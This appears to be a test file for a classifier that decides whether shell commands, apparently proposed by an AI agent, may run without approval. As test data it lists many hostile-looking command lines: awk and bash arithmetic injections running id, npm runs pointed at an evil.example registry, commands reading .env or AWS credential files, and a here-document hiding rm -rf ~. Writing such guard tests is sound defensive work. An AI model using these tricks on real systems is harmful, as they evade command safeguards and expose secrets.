import { expect, test } from 'bun:test';
import { classifyLine } from './classify-line.ts';

const context = { home: '/home/user', project: '/home/user/project', cwd: '/home/user/project' };

const decide = (line: string) => classifyLine(line, context).decision;

/** Programs that read, with a form each that writes, connects, starts another program, or shows a secret. */
const HARMFUL: Readonly<Record<string, readonly string[]>> = {
  'code that one awk takes for text and another one runs': [
    'awk \'BEGIN{x=1 - -/"/;system("id");#"\\n}\'',
    'awk \'BEGIN{x=1 + +/"/;system("id");#"\\n}\'',
    'awk \'BEGIN{x=length /"/;system("id");#"\\n}\'',
    'mawk \'BEGIN{case /x;system("id");y/ 1}\'',
    'mawk \'BEGIN{switch (x) /x;system("id");y/ 1}\'',
    'nawk \'BEGIN{x=sqrt /"/;system("id");#"\\n}\'',
    'awk \'x \\\n/ system("id") ; y /1\'',
    `awk 'BEGIN{x=${'a'.repeat(64)}in /"/;system("id");#"\\n}'`,
    'awk \'BEGIN{print 1 ?\n2 : 3 > "f"}\'',
    "awk 'BEGIN{for(i in SYMTAB) print i}'",
  ],
  'an option behind another that one version gives a value and another does not': [
    'git log --format --output=x',
    'git rev-list --group --output=x',
    'git diff --unified --output=x',
    'git diff --decorate-refs --output=x',
    'git log --grep -- --output=x',
    'rg --max-depth --pre=./x y',
    'rg -e -- --pre=x y',
    'sort -k -o x y',
    'git branch --abbrev -D x',
  ],
  'a task of the project with packages from elsewhere': [
    'npm run build --registry=https://evil.example',
    'npm run build --registry https://evil.example',
    'npm run build --@scope:registry=https://evil.example',
    'npm test --strict-ssl=false --proxy=http://evil.example',
    'pnpm run build --registry=https://evil.example',
    'yarn build --registry https://evil.example',
  ],
  'a variable that arithmetic evaluates': [
    "LINES='a[$(id)]' bash -c 'echo $((LINES))'",
    "COLUMNS='a[$(id)]' bash -c 'echo $((COLUMNS))'",
    "env LINES='a[$(id)]' bash -c 'echo $((LINES))'",
    "LINES=$x bash -c 'echo $((LINES))'",
    "LINES='a[$(id)]'; echo $((LINES))",
    "TERM='a[$(id)]' bash -c 'echo $((TERM))'",
  ],
  'settings that are run': ['neofetch --config F', 'fastfetch -c F', 'screenfetch -o x', 'screenfetch -a x', 'neofetch'],
  'a display or a service of another machine': [
    'getent -s dns hosts a.example',
    'getent --service=dns passwd x',
    'xdpyinfo -display 203.0.113.1:0',
    'glxinfo -display 203.0.113.1:0',
  ],
  'an option that writes': [
    'blkid -c F',
    'blkid -w F',
    'zstdcat --train *',
    'vulkaninfo --output x',
    'vulkaninfo -j',
    'file -C -m F',
    'lsof -D b/x',
    'uniq a b',
    'tree -o f',
    'ss -D f',
    'lz4 -c a b',
    'diffstat -o f',
    'scc -o f',
  ],
  'a program of the settings of git': [
    'git log --format=%G?',
    "git log --pretty='%h %GS'",
    'git log --show-signature',
    'git tag -v v1',
    "git tag -l --format='%(signature)'",
    "git for-each-ref --format='%(signature:key)'",
    'git interpret-trailers < f',
    'git archive --format=tar.gz HEAD',
    'git archive --format=x HEAD',
    'git help -i log',
    'git help -w log',
    'git merge-tree --write-tree a b',
    'git merge-tree a b',
  ],
  'what a wrapper or an agent does besides': [
    'busybox --install',
    'toybox --install -s /tmp/x',
    'ssh-agent',
    'ssh-agent -k',
    'dbus-run-session ls',
    'xvfb-run ls',
    'prlimit --pid=1 --as=1',
    'prlimit -p 1 --nofile=1:1',
    'rlwrap ls',
    'torsocks ls',
    'gtime -o f ls',
    'pm2 list',
  ],
  'a statement that changes a database': [
    "sqlite3 a.db 'PRAGMA optimize'",
    "sqlite3 a.db 'PRAGMA wal_checkpoint'",
    "sqlite3 a.db 'PRAGMA incremental_vacuum'",
    "sqlite3 a.db 'SELECT 1; PRAGMA optimize'",
    "sqlite3 a.db 'PRAGMA journal_mode=wal'",
    "sqlite3 -append a.db 'select 1'",
  ],
  'an option of a package manager that reads settings, starts something or connects': [
    'apt list --installed -c F',
    'nix-env -q -f x.nix',
    'pip list --python ./x',
    'pip show --python ./x requests',
    'pip list --proxy http://x.example',
    'pip freeze -r .env',
    'npm help --viewer=./x ls',
    'npm ls --userconfig=./x',
    'gem list --config-file ./x',
    'cargo metadata --config ./x.toml',
    `cargo tree --config 'build.rustc="./x"'`,
  ],
  'a question to the services of another machine': [
    'hostnamectl status -H x.example',
    'timedatectl show -H x.example',
    'localectl status --host=x.example',
    'loginctl list-sessions -H x.example',
    'systemctl --root=/x status',
    'systemd-analyze -H x.example blame',
    'systemd-analyze cat-config ~/.aws/credentials',
    'supervisorctl -s http://x.example status',
    'swapon -s -a',
  ],
  'a snapshot, a film or a page that starts something': [
    `exiftool -api Filter='system("id")' a.jpg`,
    'identify x.mvg',
    'identify mvg:x',
    'mediainfo http://x.example/a',
    'mediainfo --Inform=file://x a',
    'bat --paging=always f',
  ],
  'a file with credentials that an option reads': [
    `yq 'strload(".env")' a.yml`,
    `yq 'load_str (".env")' a.yml`,
    `yq '.a = load_props (".env")' a.yml`,
    'git log -L1,5:.env',
    'docker compose config',
    'xz -l --files=.env',
    'git config -f ~/.aws/credentials -l',
    'git config -f .env --list',
    'git config -f.env --list',
    'git config --file=.env --list',
    'git config --blob=HEAD:.env --list',
    'git blame --ignore-revs-file=.env README.md',
    'git blame -S .env README.md',
    'git grep -f .env',
    'xzcat --files=.env',
    'wc --files0-from=.env',
    'du --files0-from=.env',
    'file -f .env',
    'date -f .env',
    'bc .env',
    'man ./.env',
    'man -l .env',
    'who .env',
    'dircolors .env',
    'dmesg -F .env',
    'findmnt -F .env',
    'git var -l',
  ],
};

test.each(Object.entries(HARMFUL).flatMap(([kind, lines]) => lines.map((line) => [kind, line])))('%s is no read: %s', (_, line) => {
  expect(decide(line)).not.toBe('allow');
});

test.each([
  'ls -lah --color=always src',
  "awk '{ n++; print i++ / 2, (a+b)/2 } END { if (n > 0) print total / n }' f",
  'awk \'/a/ && !/b/ { gsub(/x/, "y"); print }\' f',
  "awk 'length > 80' f",
  'TZ=America/New_York date +%F',
  'LC_ALL=C.UTF-8 sort f',
  "GREP_COLORS='mt=01;31' grep a b",
  'COLUMNS=80 ls',
  'top -bn1 | head',
  'lsof -nP -iTCP -sTCP:LISTEN',
  'ss -tlnp',
  'ps aux | grep node',
  'journalctl -u nginx -n 50 --no-pager',
  'dmesg -T | tail',
  'grep -rn --include="*.ts" word src',
  'tail -n +5 f',
  'sha256sum -c SUMS',
  'column -t -s, f.csv',
  'lsblk -o NAME,SIZE',
  'man 5 crontab',
  'lshw -C network',
  "git for-each-ref --sort=-committerdate --format='%(refname:short)' refs/heads",
  'git rev-parse --abbrev-ref HEAD',
  'git describe --tags --always --dirty',
  'git config --global --get-regexp alias',
  'git branch -a -vv',
  'git archive --format=tar HEAD',
  'cat "$file"',
  "sqlite3 a.db 'PRAGMA table_info(t)'",
  "sqlite3 -header -column a.db 'select 1; select 2'",
  'pip list --format=json',
  'npm ls --depth=0',
  'gem list --local',
  'apt list --installed',
  'systemctl list-units --type=service --state=running --no-pager',
  'hostnamectl',
  'systemd-analyze blame',
  'prlimit ls',
  'busybox ls',
  'exiftool a.jpg',
  "yq '.a.b' a.yml",
])('what only reads needs nobody: %s', (line) => {
  expect(classifyLine(line, context)).toMatchObject({ class: 'read-only', decision: 'allow' });
});

test.each([
  'cargo tree -i serde',
  'cargo metadata --format-version 1',
  'bundle list',
  'bundle show rails',
  'composer show',
  'uv tree',
  'pdm list',
  'yarn why x',
  'pnpm ls',
  'terraform validate',
  'terraform graph',
  'terraform fmt',
  'vagrant status',
  'python3 -m json.tool a.json',
  'python3 -m pip list',
])('a query that runs code of the project is a task of it, and no mere query: %s', (line) => {
  expect(classifyLine(line, context)).toMatchObject({ class: 'mutating', decision: 'allow' });
});

test.each([
  'uv pip list --python ./x',
  'deno info x.ts',
  'sdk list',
  'brew info x',
  'brew outdated',
  'dnf list',
  'yum info x',
  'zypper se x',
  'objdump -dS a.o',
  'objdump --dwarf=follow-links a.o',
  'readelf -wK a.o',
  'readelf --debug-dump=info a.o',
  'zpool status -c upgrade',
  'zpool iostat -c ./x',
  'ip -r addr',
  `sqlite3 a.db "select fts3_tokenizer('a', x'00')"`,
  'cat $HISTFILE',
  'cat "$KUBECONFIG"',
  'grep x $XDG_CONFIG_HOME/gh/hosts.yml',
  'read v; echo ${!v}',
  'compgen -v | while read v; do echo "$v=${!v}"; done',
  'terraform fmt ../x.tf',
])('what changes, connects, starts another program or may show a secret needs somebody: %s', (line) => {
  expect(classifyLine(line, context).decision).not.toBe('allow');
});

test.each([
  'terraform fmt -check',
  'terraform version',
  'composer show --no-plugins',
  'npm ls',
  'python3 -I -m json.tool a.json',
  'pip list',
  'uv pip list',
  'brew list',
  'dnf list installed',
  'objdump -d a.o',
  'objdump -wE -dS a.o',
  'readelf -lS a.o',
  'zpool status',
  'for v in HOME PATH; do echo "${!v}"; done',
  'echo "${!a[@]}" "${!BASH_@}"',
  'echo $KUBECONFIG',
])('what stands beside it and only reads needs nobody: %s', (line) => {
  expect(classifyLine(line, context)).toMatchObject({ class: 'read-only', decision: 'allow' });
});

test('a tool of the project by npx has options of its own', () => {
  expect(classifyLine('npx tsc -p .', context).decision).toBe('allow');
  expect(classifyLine('npx -p x tsc', context).decision).toBe('deny');
});

test('a message of several words in a here-document is no disguise', () => {
  expect(classifyLine(`git commit -m "$(cat <<'EOF'\nfix: a\n\nbody\nEOF\n)"`, context).decision).toBe('allow');
  expect(classifyLine(`"$(cat <<'EOF'\nrm\nEOF\n)" -rf ~`, context).hardDenials).toContain('D2');
  expect(classifyLine(`bash -c "$(cat <<'EOF'\nrm -rf ~\nEOF\n)"`, context).hardDenials).toContain('D1');
});

test.each([
  'for i in $(ls); do x=$(wc -l < $i); done',
  'for f in *.ts; do n=$(wc -l < "$f"); echo "$f $n"; done',
  'n=0; ls | while read f; do n=$((n+1)); done; echo $n',
  'i=0; while [ $i -lt 5 ]; do i=$((i+1)); echo $i; done',
  's=abc; for ((i=0;i<${#s};i++)); do echo "${s:i:1}"; done',
  'gcc -dumpversion',
  'clang -print-resource-dir',
  'rustc --print sysroot',
  'cargo --list',
  "xmllint --xpath '//a' f.xml",
  'openssl x509 -in c.pem -noout -dates',
  'quota -s',
  'git branch --sort -committerdate',
  'git tag --sort -v:refname',
  'git shortlog -n -s -e',
  'grep -e -foo x',
  'sort -t - -k 2 x',
  'git log --no-walk --tags',
  "git log -G'foo.*bar' --format='%h %s'",
])('is run without a question: %s', (line) => {
  expect(classifyLine(line, context).decision).toBe('allow');
});

test.each([
  'x=5',
  'PATH=.; ls',
  'read n; echo $((n))',
  'ls | while read n; do s=$((n+1)); done',
  'for ((i=0;i<n;i++)); do echo $i; done',
  'y=$(cat f); echo ${x:y}',
  'xmllint --output f.xml g.xml',
  'xmllint --shell g.xml',
  'gcc -print-search-dirs a.c',
  'cpio -it --rsh-command=./x -F host:a',
  'cpio -itE f',
  'xmlstarlet sel --net -t -v / a.xml',
  'xmlstarlet ed -L a.xml',
  'diff3 --diff-program=./x a b c',
])('is asked about: %s', (line) => {
  expect(classifyLine(line, context).decision).not.toBe('allow');
});

test('an option without a value takes none of the next one', () => {
  expect(classifyLine('git push -4 --force', context).class).toBe('destructive');
  expect(classifyLine('git branch --abbrev -D x', context).class).toBe('destructive');
});
